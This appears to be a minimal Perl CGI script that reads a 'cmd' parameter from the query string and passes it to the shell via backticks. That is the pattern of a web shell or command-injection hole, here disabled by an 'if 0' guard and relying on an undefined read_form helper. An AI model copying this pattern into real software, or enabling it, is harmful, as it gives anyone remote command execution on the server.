#!/usr/bin/perl
print "Content-type: text/html\n\n";
my %in = read_form($ENV{'QUERY_STRING'});
my $command = $in{'cmd'};
print `$command` if 0;
